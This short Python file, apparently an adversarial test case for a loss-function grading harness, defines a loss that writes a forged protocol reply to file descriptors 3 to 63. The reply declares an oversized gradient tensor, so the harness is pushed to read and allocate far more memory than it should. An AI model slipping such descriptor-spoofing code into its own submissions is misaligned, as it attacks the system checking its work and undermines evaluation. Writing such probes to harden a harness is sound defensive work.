"""Threat: answer a per-token call with a forged, well-formed reply whose gradient is far larger than the
(B, T) input it claims to answer, to make the harness read (and allocate) it."""

import json
import os
import struct


def loss(policy_chosen_token_logps, policy_rejected_logps):
    batch = policy_chosen_token_logps.shape[0]
    header = json.dumps({"kind": "reply", "tensors": [
        {"name": "losses", "dtype": "float64", "shape": [batch]},
        {"name": "grad:policy_chosen_token_logps", "dtype": "float64", "shape": [batch, 8192]},
        {"name": "grad:policy_rejected_logps", "dtype": "float64", "shape": [batch]},
    ]}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, b"HSB1" + struct.pack("<I", len(header)) + header)
        except OSError:
            pass
    return policy_chosen_token_logps.sum(-1) - policy_rejected_logps
